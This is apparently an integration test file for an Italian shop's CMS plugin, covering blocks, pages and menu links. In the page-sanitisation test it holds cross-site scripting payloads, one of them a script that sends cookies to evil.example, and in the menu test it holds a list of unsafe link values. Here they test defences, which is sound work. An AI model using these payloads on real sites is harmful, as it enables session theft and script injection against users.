/** The CMS plugin through the real shop and admin APIs: blocks by identifier and locale, pages, the main menu. */
import { checkCmsBlockContent, HOME_BLOCK_IDENTIFIERS } from '@shop/rules';
import gql from 'graphql-tag';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { createShopTestEnvironment, testPort } from '../../../../test/shop-test-environment';
import { CmsShopResolver } from '../api/cms-shop.resolver';
import { CmsService } from '../services/cms.service';
import { MenuService } from '../services/menu.service';

const BLOCKS = gql`
    query Blocks($identifiers: [String!]!, $locale: String) {
        cmsBlocks(identifiers: $identifiers, locale: $locale) {
            identifier
            locale
            content
        }
    }
`;
const MENU = gql`
    query Menu($code: String!) {
        menu(code: $code) {
            uid
            code
            items {
                uid
                label
                link
                children {
                    uid
                    label
                    link
                    children {
                        uid
                        label
                        link
                        children {
                            uid
                            label
                        }
                    }
                }
            }
        }
    }
`;
const PAGE = gql`
    query Page($slug: String!) {
        cmsPage(slug: $slug) {
            slug
            title
            body
            metaDescription
        }
    }
`;
const UPSERT_BLOCK = gql`
    mutation Upsert($input: UpsertCmsBlockInput!) {
        upsertCmsBlock(input: $input) {
            id
            identifier
            content
        }
    }
`;
const UPSERT_PAGE = gql`
    mutation UpsertPage($input: UpsertCmsPageInput!) {
        upsertCmsPage(input: $input) {
            id
            slug
            body
        }
    }
`;
const CREATE_ENTRY = gql`
    mutation Create($input: MenuEntryInput!) {
        createMenuEntry(input: $input) {
            id
            label
            link
        }
    }
`;

interface MenuItem {
    uid: string;
    label: string;
    link: string;
    children?: MenuItem[];
}

function depth(items: MenuItem[] | undefined): number {
    if (!items?.length) {
        return 0;
    }
    return 1 + Math.max(...items.map(item => depth(item.children)));
}

describe('CMS plugin', () => {
    const { server, adminClient, shopClient, init, destroy } = createShopTestEnvironment({ port: testPort(4101) });

    beforeAll(async () => {
        await init();
        await adminClient.asSuperAdmin();
    });

    afterAll(async () => {
        await destroy();
    });

    it('has its services injected into its resolvers', () => {
        const resolver = server.app.get(CmsShopResolver) as unknown as { cmsService: unknown; menuService: unknown };
        expect(resolver.cmsService).toBeInstanceOf(CmsService);
        expect(resolver.menuService).toBeInstanceOf(MenuService);
    });

    it('returns the blocks that exist, in the order asked, and skips a missing one', async () => {
        const { cmsBlocks } = await shopClient.query(BLOCKS, {
            identifiers: ['footer-links', 'does-not-exist', 'headerText'],
        });
        expect(cmsBlocks.map((b: { identifier: string }) => b.identifier)).toEqual(['footer-links', 'headerText']);
        expect(cmsBlocks[1].locale).toBe('it');
        expect(cmsBlocks[1].content.text).toContain('Spedizione gratuita in Italia da 100 €');
        expect(cmsBlocks[0].content.sections[0].links.length).toBeGreaterThan(0);
    });

    it('seeds every block the storefront reads, with the customer-service address and logos', async () => {
        const identifiers = [
            'headerText',
            'pre-header',
            'footer-address',
            'footer-links',
            'footer-newsletter',
            'footer-payments',
            'footer-social',
            'copyright',
            'prefooter',
            ...HOME_BLOCK_IDENTIFIERS,
        ];
        const { cmsBlocks } = await shopClient.query(BLOCKS, { identifiers });
        expect(cmsBlocks).toHaveLength(identifiers.length);
        const byId = Object.fromEntries(
            cmsBlocks.map((b: { identifier: string; content: unknown }) => [b.identifier, b.content]),
        );
        expect(byId['footer-address'].email).toMatch(/^servizioclienti@/);
        expect(byId['footer-address'].phone).toBeTruthy();
        expect(byId['footer-payments'].logos.map((l: { name: string }) => l.name)).toContain('Visa');
        expect(byId['footer-payments'].logos[0].src).toMatch(/^\/assets\/.+\.png$/);
        expect(byId['prefooter'].logos.length).toBeGreaterThanOrEqual(6);
        expect(byId.copyright.content).toContain('©');
        // The home page's: every one of the shape the storefront renders, pictures served as assets.
        for (const identifier of HOME_BLOCK_IDENTIFIERS) {
            expect([identifier, checkCmsBlockContent(identifier, byId[identifier]).ok]).toEqual([identifier, true]);
        }
        expect(byId['home-hero'].slides).toHaveLength(3);
        expect(byId['home-hero'].slides[0].image.src).toMatch(/^\/assets\/.+\.png$/);
        expect(byId['home-categories'].tiles.map((tile: { slug: string }) => tile.slug)).toContain('smartphone');
        expect(byId['home-brands'].brands).toContainEqual(
            expect.objectContaining({ name: "De'Longhi", code: 'delonghi' }),
        );
        expect(byId['home-best-sellers'].fallbackCategory).toBe('tv-e-audio');
    });

    it('answers per locale: another locale has no blocks yet', async () => {
        const { cmsBlocks } = await shopClient.query(BLOCKS, { identifiers: ['headerText'], locale: 'en' });
        expect(cmsBlocks).toEqual([]);
    });

    it('rejects a malformed locale or identifier with a clear message', async () => {
        await expect(shopClient.query(BLOCKS, { identifiers: ['headerText'], locale: 'IT-it' })).rejects.toThrow(
            'Invalid locale "IT-it"',
        );
        await expect(shopClient.query(BLOCKS, { identifiers: ['<script>'] })).rejects.toThrow(
            'Invalid block identifier',
        );
    });

    it('lets staff edit a block through the Admin API and shoppers see the change', async () => {
        const { upsertCmsBlock } = await adminClient.query(UPSERT_BLOCK, {
            input: { identifier: 'headerText', locale: 'it', content: { text: 'Saldi di fine stagione' } },
        });
        expect(upsertCmsBlock.content.text).toBe('Saldi di fine stagione');
        const { cmsBlocks } = await shopClient.query(BLOCKS, { identifiers: ['headerText'] });
        expect(cmsBlocks[0].content).toEqual({ text: 'Saldi di fine stagione' });
        await expect(
            adminClient.query(UPSERT_BLOCK, { input: { identifier: 'headerText', locale: 'it', content: ['x'] } }),
        ).rejects.toThrow('Block content must be a JSON object');
    });

    it('refuses, when staff save it, a block whose content has the wrong shape, naming the field', async () => {
        // An update of a seeded block: refused, and the block the shop shows stays as it was.
        const { cmsBlocks: before } = await shopClient.query(BLOCKS, { identifiers: ['footer-links'] });
        await expect(
            adminClient.query(UPSERT_BLOCK, {
                input: {
                    identifier: 'footer-links',
                    locale: 'it',
                    content: { sections: [{ title: 'Assistenza', links: [{ label: 'Resi', url: '/resi' }] }] },
                },
            }),
        ).rejects.toThrow(
            'Invalid content for block "footer-links": sections.0.links.0.href: Invalid input: expected string, received undefined',
        );
        const { cmsBlocks: after } = await shopClient.query(BLOCKS, { identifiers: ['footer-links'] });
        expect(after).toEqual(before);

        // A new block (no English copyright yet): refused with the same kind of answer, and not created.
        const refused = adminClient.query(UPSERT_BLOCK, {
            input: { identifier: 'copyright', locale: 'en', content: { content: 2026 } },
        });
        await expect(refused).rejects.toThrow(
            'Invalid content for block "copyright": content: Invalid input: expected string, received number',
        );
        await expect(refused).rejects.toMatchObject({
            response: { status: 200, errors: [{ extensions: { code: 'USER_INPUT_ERROR' } }] },
        });
        const { cmsBlocks: english } = await shopClient.query(BLOCKS, { identifiers: ['copyright'], locale: 'en' });
        expect(english).toEqual([]);

        // The right shape is saved; a block the storefront does not read takes any object.
        const { upsertCmsBlock } = await adminClient.query(UPSERT_BLOCK, {
            input: { identifier: 'copyright', locale: 'en', content: { content: '© 2026 Scintilla S.r.l.' } },
        });
        expect(upsertCmsBlock.content).toEqual({ content: '© 2026 Scintilla S.r.l.' });
        const { upsertCmsBlock: other } = await adminClient.query(UPSERT_BLOCK, {
            input: { identifier: 'promo-banner', locale: 'it', content: { slides: [{ title: 'Saldi' }] } },
        });
        expect(other.content).toEqual({ slides: [{ title: 'Saldi' }] });
    });

    it('does not let an anonymous caller edit blocks', async () => {
        await adminClient.asAnonymousUser();
        await expect(
            adminClient.query(UPSERT_BLOCK, {
                input: { identifier: 'headerText', locale: 'it', content: { text: 'x' } },
            }),
        ).rejects.toThrow(/not currently authorized/);
        await adminClient.asSuperAdmin();
    });

    it('serves generic pages by slug and null for a missing one', async () => {
        const { cmsPage } = await shopClient.query(PAGE, { slug: 'resi-e-rimborsi' });
        expect(cmsPage.title).toBe('Resi e rimborsi');
        expect(cmsPage.body).toContain('30 giorni');
        const missing = await shopClient.query(PAGE, { slug: 'pagina-inesistente' });
        expect(missing.cmsPage).toBeNull();
    });

    it('stores staff HTML of a page sanitised: no script, handler or javascript: link; shop markup kept', async () => {
        const legitimate =
            '<h2>Come restituire un prodotto</h2><p>Hai <strong>30 giorni</strong> per il <em>reso</em>.</p>' +
            '<ul><li>Compila il <a href="/it/contact-us">modulo</a></li><li>Spedisci il pacco</li></ul>' +
            '<table><tbody><tr><th>Costo</th><td>Gratuito</td></tr></tbody></table>' +
            '<p><img src="/assets/source/ab/reso.jpg" alt="Pacco" /></p>';
        const attack =
            '<script>document.location="https://evil.example/?c="+document.cookie</script>' +
            '<img src="/assets/x.png" onerror="alert(1)" alt="x" />' +
            '<p><a href="javascript:alert(1)">Clicca</a> <a href="https://www.garanzia.example" target="_blank">Garanzia</a></p>' +
            '<iframe src="https://evil.example"></iframe><p style="position:fixed" onmouseover="alert(2)">Fine</p>';
        const { upsertCmsPage } = await adminClient.query(UPSERT_PAGE, {
            input: { slug: 'reso-facile', locale: 'it', title: 'Reso facile', body: legitimate + attack },
        });
        const expected =
            legitimate +
            '<img src="/assets/x.png" alt="x" />' +
            '<p><a>Clicca</a> <a href="https://www.garanzia.example" target="_blank" rel="noopener noreferrer">Garanzia</a></p>' +
            '<p>Fine</p>';
        expect(upsertCmsPage.body).toBe(expected);
        // What shoppers get is what was stored.
        const { cmsPage } = await shopClient.query(PAGE, { slug: 'reso-facile' });
        expect(cmsPage.body).toBe(expected);

        // Nothing but unsafe markup: refused rather than saved empty, and the stored page is unchanged.
        await expect(
            adminClient.query(UPSERT_PAGE, {
                input: { slug: 'reso-facile', locale: 'it', title: 'Reso facile', body: '<script>alert(1)</script>' },
            }),
        ).rejects.toThrow('Body has no content left once unsafe HTML is removed');
        const { cmsPage: after } = await shopClient.query(PAGE, { slug: 'reso-facile' });
        expect(after.body).toBe(expected);
    });

    it('builds the main menu from the category tree, three levels deep, without the services category', async () => {
        const { menu } = await shopClient.query(MENU, { code: 'mainmenu' });
        expect(menu.code).toBe('mainmenu');
        const labels = menu.items.map((i: MenuItem) => i.label);
        expect(labels).toEqual(expect.arrayContaining(['Telefonia', 'Informatica', 'Gaming']));
        expect(labels).not.toContain('Servizi');
        expect(depth(menu.items)).toBeGreaterThanOrEqual(3);
        const telefonia = menu.items.find((i: MenuItem) => i.label === 'Telefonia');
        expect(telefonia.link).toBe('/c/telefonia');
        expect(telefonia.uid).toMatch(/^category-/);
        expect(telefonia.children.length).toBeGreaterThan(0);
        // Staff entries follow the categories at the top level.
        expect(labels.slice(-2)).toEqual(['Offerte', 'Assistenza']);
        expect(menu.items.find((i: MenuItem) => i.label === 'Offerte').link).toBe('/offerte');
    });

    it('adds a staff entry under a category and refuses links that leave the shop unsafely', async () => {
        const before = await shopClient.query(MENU, { code: 'mainmenu' });
        const telefonia = before.menu.items.find((i: MenuItem) => i.label === 'Telefonia');
        await adminClient.query(CREATE_ENTRY, {
            input: {
                menuCode: 'mainmenu',
                locale: 'it',
                label: 'Ricondizionati',
                link: '/ricondizionati',
                parentUid: telefonia.uid,
            },
        });
        const after = await shopClient.query(MENU, { code: 'mainmenu' });
        const updated = after.menu.items.find((i: MenuItem) => i.label === 'Telefonia');
        expect(updated.children.map((c: MenuItem) => c.label)).toContain('Ricondizionati');
        for (const link of ['javascript:alert(1)', '//evil.example', '/\\evil.example', 'http://plain.example']) {
            await expect(
                adminClient.query(CREATE_ENTRY, { input: { menuCode: 'mainmenu', locale: 'it', label: 'X', link } }),
            ).rejects.toThrow('Invalid menu link');
        }
    });

    it('answers null for an unknown menu code', async () => {
        const { menu } = await shopClient.query(MENU, { code: 'footer-menu' });
        expect(menu).toBeNull();
    });
});
